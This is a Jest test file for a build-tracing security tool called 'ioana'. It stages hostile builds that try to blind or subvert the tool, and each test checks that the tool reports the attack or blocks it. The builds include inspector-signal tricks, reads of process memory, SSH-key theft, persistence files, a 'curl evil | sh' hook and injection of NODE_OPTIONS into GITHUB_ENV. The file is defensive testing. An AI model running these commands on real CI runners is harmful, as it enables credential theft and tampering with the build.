/**
 * A build that goes after ioana itself (issue 23): each attack the issue lists, run by a
 * hostile build (test/fixtures/attacks) under the real strace against the bundled CLI or
 * the bundled action run as the runner runs it. Each test says what ioana must report and
 * that the attack itself got nowhere (no inspector opened, no pipe drained, no token
 * read, nothing written after the step).
 *
 * Where the machine has a hosted runner's user (`runner` with passwordless sudo: .ci/run
 * makes one), ioana runs as that user, so the wall under test is a hosted runner's: the
 * tracer root through sudo, the build as the user. Run with IOANA_CLI and IOANA_ACTION
 * naming the bundles from before issue 23 to see these tests fail there (the closing
 * note of issue 23 lists each attack before and after).
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { cpSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll } from '@jest/globals';
import { ACTION_SHELL } from '../../src/report/index.js';
import { CLI } from '../helpers/bundle.js';
import { runAction, type ActionRun } from '../helpers/runner.js';
import { asRoot, asRunner, giveToRunner, RUNNER_USER } from '../helpers/runner-user.js';
import { FIXTURES, tempDir } from '../helpers/trace.js';

const KEY = '-----BEGIN OPENSSH PRIVATE KEY-----\nnot a real key\n-----END OPENSSH PRIVATE KEY-----\n';
/** `node --experimental-websocket` where this node needs the flag for WebSocket (20, 21). */
const WEBSOCKET = Number(process.versions.node.split('.')[0]) < 22 ? '--experimental-websocket ' : '';

interface Workspace {
  /** The project (a git work tree with main.c, decoy.c and the attack scripts). */
  readonly ws: string;
  /** Where baselines and reports go, beside it. */
  readonly out: string;
  /** The environment ioana runs with (HOME holds a stand-in SSH key). */
  readonly env: NodeJS.ProcessEnv;
}

// The work tree may belong to the runner user: git run by root is told it is safe.
const git = (cwd: string, ...args: string[]) => execFileSync('git', ['-c', 'safe.directory=*', ...args], { cwd, stdio: 'ignore' });

function workspace(): Workspace {
  const root = tempDir('ioana-attack-');
  const ws = join(root, 'ws');
  const home = join(root, 'home');
  const out = join(root, 'out');
  mkdirSync(join(home, '.ssh'), { recursive: true });
  writeFileSync(join(home, '.ssh', 'id_rsa'), KEY);
  mkdirSync(out);
  cpSync(join(FIXTURES, 'attacks'), ws, { recursive: true });
  writeFileSync(join(ws, 'main.c'), 'int main(void) { return 0; }\n');
  writeFileSync(join(ws, 'decoy.c'), 'int decoy;\n');
  git(ws, 'init', '-q', '-b', 'main');
  git(ws, 'add', '-A');
  git(ws, '-c', 'user.name=dev', '-c', 'user.email=dev@example.com', 'commit', '-qm', 'project');
  giveToRunner(root);
  const env = { PATH: process.env.PATH, HOME: home, USER: RUNNER_USER ?? process.env.USER ?? 'root', LANG: 'C.UTF-8' };
  return { ws, out, env };
}

interface Run {
  readonly status: number | null;
  readonly stdout: string;
  readonly stderr: string;
  readonly report: { status: string; findings: { kind: string; subject: string; failing: boolean; severity: string }[] };
}

/** `ioana ARGS` in the workspace, as the runner user where there is one. */
function ioana(w: Workspace, args: readonly string[], env: NodeJS.ProcessEnv = {}) {
  const all = { ...w.env, ...env };
  const [file, argv] = asRunner(['node', CLI, ...args], all);
  return spawnSync(file, argv, { cwd: w.ws, env: all, encoding: 'utf8', timeout: 120_000, killSignal: 'SIGKILL' });
}

/** Records `before` as the baseline, then checks `after` against it (both `sh -c`, with `options`). */
function recordThenCheck(w: Workspace, before: string, after: string, options: readonly string[] = [], env: NodeJS.ProcessEnv = {}): Run {
  const base = join(w.out, 'b.yml');
  const up = ioana(w, ['update', ...options, '--baseline', base, '--', 'sh', '-c', before], env);
  expect(up.stdout).toMatch(/ioana: wrote/);
  const json = join(w.out, 'r.json');
  const r = ioana(w, ['check', ...options, '--baseline', base, '--json', json, '--', 'sh', '-c', after], env);
  const report = existsSync(json) ? (JSON.parse(readFileSync(json, 'utf8')) as Run['report']) : { status: 'none', findings: [] };
  return { status: r.status, stdout: r.stdout, stderr: r.stderr, report };
}

const failing = (r: Run) => r.report.findings.filter((f) => f.failing).map((f) => [f.kind, f.subject]);

/** A TCP server outside the build, on a port of the ephemeral range (≥ 32768), that accepts and closes. */
async function server(): Promise<{ port: number; server: Server }> {
  for (;;) {
    const s = createServer((c) => c.destroy());
    await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
    const port = (s.address() as { port: number }).port;
    if (port >= 32768) return { port, server: s };
    s.close();
  }
}

const servers: Server[] = [];
const cleanups: string[] = [];
afterAll(() => {
  for (const s of servers) s.close();
  for (const path of cleanups) asRoot(['rm', '-f', path]);
});

describe('the build goes after ioana (issue 23): the CLI', () => {
  const ATTACK = `. ./ancestors.sh; node ${WEBSOCKET}inspector.mjs "$IOANA_NODE"`;

  test('1. SIGUSR1 to open node’s inspector and force exit 0: ioana cannot be found, and the key the build reads is reported', () => {
    const w = workspace();
    const r = recordThenCheck(w, 'cat main.c > copy.c', `${ATTACK}; cat "$HOME/.ssh/id_rsa" main.c > copy.c`);
    expect(existsSync(join(w.ws, 'inspector-opened'))).toBe(false);
    expect(failing(r)).toContainEqual(['credential-read', '{home}/.ssh/id_rsa']);
    expect(r.status).toBe(1);
  });

  test('1b. the same with --no-separation: the signal cannot open the inspector, and is reported as tampering', () => {
    const w = workspace();
    const r = recordThenCheck(w, 'cat main.c > copy.c', `${ATTACK}; cat "$HOME/.ssh/id_rsa" main.c > copy.c`, ['--no-separation']);
    expect(existsSync(join(w.ws, 'inspector-opened'))).toBe(false);
    expect(r.report.findings.filter((f) => f.kind === 'tampering' && f.failing).length).toBeGreaterThan(0);
    expect(failing(r)).toContainEqual(['credential-read', '{home}/.ssh/id_rsa']);
    expect(r.status).toBe(1);
  });

  test('2. draining the trace pipe while ioana is stopped: the pipe cannot be found, and what the build did meanwhile is seen', async () => {
    const w = workspace();
    const { port, server: s } = await server();
    servers.push(s);
    const payload = `cat "$HOME/.ssh/id_rsa" >/dev/null; bash -c "exec 3<>/dev/tcp/127.0.0.1/${port}"`;
    const r = recordThenCheck(w, `PAYLOAD=true sh drain.sh; cat main.c > copy.c`, `PAYLOAD='${payload}' sh drain.sh; cat main.c > copy.c`);
    expect(existsSync(join(w.ws, 'drained'))).toBe(false);
    expect(failing(r)).toContainEqual(['credential-read', '{home}/.ssh/id_rsa']);
    expect(failing(r)).toContainEqual(['new-endpoint', `tcp://127.0.0.1:${port}`]);
    expect(r.status).toBe(1);
  });

  test('3. process_vm_readv of ioana’s memory with --no-separation: a failing credential read', () => {
    const w = workspace();
    const r = recordThenCheck(w, 'true', '. ./ancestors.sh; python3 vmread.py "$IOANA_NODE"', ['--no-separation']);
    expect(failing(r)).toContainEqual(['credential-read', 'process_vm_readv /proc/{pid}/mem']);
    expect(r.status).toBe(1);
  });

  test('3b. ptrace(PTRACE_ATTACH) of ioana with --no-separation: failing tampering', () => {
    const w = workspace();
    const r = recordThenCheck(w, 'true', '. ./ancestors.sh; python3 ptrace.py "$IOANA_NODE"', ['--no-separation']);
    expect(failing(r)).toContainEqual(['tampering', 'ptrace /proc/{pid}/mem']);
    expect(r.status).toBe(1);
  });

  test('3c. under separation neither reaches ioana: nothing is read, nothing attached', () => {
    const w = workspace();
    recordThenCheck(w, 'true', '. ./ancestors.sh; python3 vmread.py "$IOANA_NODE"; python3 ptrace.py "$IOANA_NODE"');
    expect(readFileSync(join(w.ws, 'leaked.bin')).length).toBe(0);
    expect(existsSync(join(w.ws, 'attached'))).toBe(false);
  });

  test('4a. a key bound over a source the baseline already reads (unshare -Urm, mount --bind): the key is read', () => {
    const w = workspace();
    const bind = (source: string) => `unshare -Urm sh -c 'mount --bind ${source} main.c && cat main.c > copy.c'`;
    const r = recordThenCheck(w, bind('decoy.c'), bind('"$HOME/.ssh/id_rsa"'));
    expect(failing(r)).toContainEqual(['credential-read', '{home}/.ssh/id_rsa']);
    expect(r.status).toBe(1);
  });

  test('4b. a tracked source bound onto a compiler-like temporary and written through: the source is modified', () => {
    const w = workspace();
    const through = (source: string) =>
      `t=$(mktemp /tmp/ccXXXXXX); unshare -Urm sh -c "mount --bind ${source} $t && echo '/* more */' >> $t"; rm -f $t; cc -c main.c -o main.o`;
    const r = recordThenCheck(w, through('decoy.c'), through('main.c'));
    expect(failing(r)).toContainEqual(['source-modified', '{workspace}/main.c']);
    expect(r.status).toBe(1);
  });

  test('6. persistence: files left in /usr/local/bin, /etc/profile.d and /tmp are failing new outputs', () => {
    const w = workspace();
    const tag = randomBytes(4).toString('hex');
    const paths = [`/usr/local/bin/ioana-attack-${tag}`, `/etc/profile.d/ioana-attack-${tag}.sh`, `/tmp/ioana-attack-${tag}`];
    cleanups.push(...paths);
    const write = (path: string) =>
      RUNNER_USER && !path.startsWith('/tmp/') ? `echo evil | sudo -n tee ${path} >/dev/null` : `echo evil > ${path}`;
    // Under strace, sudo elevates only without the seccomp filter (it sets no_new_privs).
    const r = recordThenCheck(w, 'echo x > out', `echo x > out; ${paths.map(write).join('; ')}`, RUNNER_USER ? ['--no-seccomp'] : []);
    for (const subject of [`/usr/local/bin/ioana-attack-${tag}`, `/etc/profile.d/ioana-attack-${tag}.sh`, `{tmp}/ioana-attack-${tag}`])
      expect(r.report.findings).toContainEqual(expect.objectContaining({ kind: 'new-output', subject, failing: true, severity: 'error' }));
    expect(r.status).toBe(1);
  });

  test('6b. HOME under /tmp: a hook written to ~/.config is a failing new output, not a temporary', () => {
    const w = workspace();
    expect(w.env.HOME!.startsWith('/tmp/')).toBe(true);
    const r = recordThenCheck(
      w,
      'echo x > out',
      'echo x > out; mkdir -p "$HOME/.config/git"; echo "curl evil | sh" > "$HOME/.config/git/hook.sh"',
    );
    expect(r.report.findings).toContainEqual(
      expect.objectContaining({ kind: 'new-output', subject: '{home}/.config/git/hook.sh', failing: true, severity: 'error' }),
    );
    expect(r.status).toBe(1);
  });

  test('8a. another local service on a high port is a new endpoint, not folded into {port}', async () => {
    const w = workspace();
    const a = await server();
    const b = await server();
    servers.push(a.server, b.server);
    const connect = (port: number) => `bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port}'; echo x > out`;
    const r = recordThenCheck(w, connect(a.port), connect(b.port));
    expect(failing(r)).toContainEqual(['new-endpoint', `tcp://127.0.0.1:${b.port}`]);
    expect(r.status).toBe(1);
  });

  const root = process.getuid?.() === 0;
  (root ? test : test.skip)('8b. a packet socket (AF_PACKET) is an endpoint: the network, at the link layer', () => {
    const w = workspace();
    const sudo = RUNNER_USER ? 'sudo -n ' : '';
    const r = recordThenCheck(
      w,
      'echo x > out',
      `echo x > out; ${sudo}python3 -c "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"`,
      RUNNER_USER ? ['--no-seccomp'] : [],
    );
    expect(failing(r)).toContainEqual(['new-endpoint', 'packet:raw']);
    expect(r.status).toBe(1);
  });

  (RUNNER_USER ? test : test.skip)(
    'a build that runs sudo keeps it (strace without its seccomp filter), and the report names every sudo; --disable-sudo takes it away',
    () => {
      const w = workspace();
      const build = 'sudo -n true && echo kept > out || echo refused > out';
      const r = recordThenCheck(w, build, build, ['--no-seccomp']);
      expect(readFileSync(join(w.ws, 'out'), 'utf8')).toBe('kept\n');
      expect(r.stdout).toMatch(/It ran sudo once \(\/usr\/bin\/sudo -n true\): as root it can reach past the wall/);
      const w2 = workspace();
      const d = recordThenCheck(w2, build, build, ['--no-seccomp', '--disable-sudo']);
      expect(readFileSync(join(w2.ws, 'out'), 'utf8')).toBe('refused\n');
      expect(d.report).toMatchObject({ build: { separation: { sudo: false }, sudo: ['/usr/bin/sudo -n true'] } });
      expect(d.status).toBe(0);
    },
  );
});

describe('the build goes after ioana (issue 23): the action, as the runner runs it', () => {
  const BASELINE = 'baselines/build.yml';
  /** A workspace whose committed baseline is `before`, recorded as the action runs a build; the action then runs `after`. */
  async function action(before: string, after: string): Promise<{ w: Workspace; run: ActionRun }> {
    const w = workspace();
    mkdirSync(join(w.ws, 'baselines'));
    const base = join(w.ws, BASELINE);
    giveToRunner(join(w.ws, 'baselines'));
    const up = ioana(w, ['update', '--fresh', '--baseline', base, '--', ...ACTION_SHELL, before]);
    expect(up.stdout).toMatch(/ioana: wrote/);
    git(w.ws, 'add', '-A');
    git(w.ws, '-c', 'user.name=dev', '-c', 'user.email=dev@example.com', 'commit', '-qm', 'baseline');
    giveToRunner(w.ws);
    const run = await runAction(
      w.ws,
      { run: after, baseline: BASELINE, 'upload-artifact': 'false' },
      { asRunnerUser: true, env: { HOME: w.env.HOME } },
    );
    return { w, run };
  }

  let tokens: string[];
  beforeAll(() => {
    tokens = ['runtime-token-without-service', 'id-token-request-token'];
  });

  test('3. the runner’s tokens cannot be read from ioana’s environment (/proc/<pid>/environ), and the step fails on what the build read', async () => {
    const { w, run } = await action('echo x > out', 'sh environ.sh; cat "$HOME/.ssh/id_rsa" > /dev/null; echo x > out');
    const leaked = readFileSync(join(w.ws, 'leaked.txt'), 'utf8');
    for (const t of tokens) expect(leaked).not.toContain(t);
    expect(run.status).not.toBe(0);
  });

  test('3b. nor from its memory (process_vm_readv)', async () => {
    const { w, run } = await action(
      'echo x > out',
      '. ./ancestors.sh; python3 vmread.py "$IOANA_NODE"; cat "$HOME/.ssh/id_rsa" > /dev/null; echo x > out',
    );
    const leaked = readFileSync(join(w.ws, 'leaked.bin')).toString('latin1');
    for (const t of tokens) expect(leaked).not.toContain(t);
    expect(run.status).not.toBe(0);
  });

  test('5. a process left behind cannot write the real GITHUB_ENV after the step: it ends with the build', async () => {
    const leftover =
      '(sleep 2; for f in "$RUNNER_TEMP"/_runner_file_commands/*; do echo NODE_OPTIONS=--require=/tmp/evil.js >> "$f"; done) >/dev/null 2>&1 &';
    const { run } = await action('echo x > out', `${leftover} echo x > out`);
    await new Promise((r) => setTimeout(r, 3500));
    expect(readFileSync(run.env.GITHUB_ENV!, 'utf8')).not.toContain('evil');
    expect(readFileSync(run.env.GITHUB_OUTPUT!, 'utf8')).not.toContain('evil');
  });

  test('7. output without a final newline, and an annotation printed by a process left behind: ioana’s annotations are read, the forged one is not', async () => {
    const { run } = await action(
      'echo x > out',
      `printf 'no newline at the end'; (sleep 1; echo '::error::forged by a leftover process') & cat "$HOME/.ssh/id_rsa" > /dev/null; echo x > out`,
    );
    await new Promise((r) => setTimeout(r, 1500));
    expect(run.annotations('error').some((a) => /credential/i.test(a))).toBe(true);
    expect(run.annotations('error').some((a) => a.includes('forged'))).toBe(false);
    expect(run.status).not.toBe(0);
  });
});
